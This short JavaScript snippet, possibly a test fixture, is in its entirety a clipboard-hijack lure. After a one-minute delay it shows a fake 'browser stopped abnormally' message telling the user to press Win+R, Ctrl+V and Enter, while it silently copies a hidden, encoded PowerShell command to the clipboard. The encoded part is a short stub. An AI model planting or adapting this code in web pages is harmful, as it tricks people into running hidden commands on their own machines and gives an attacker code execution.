function broken() {
  const box = document.createElement('div');
  box.textContent = 'Your browser stopped abnormally. Press Win+R, then Ctrl+V, then Enter to repair.';
  document.body.append(box);
  // expect: clipboard-swapped
  navigator.clipboard.writeText('cmd /c start /min powershell -w hidden -enc SQBFAFgA');
}
setTimeout(broken, 60000);
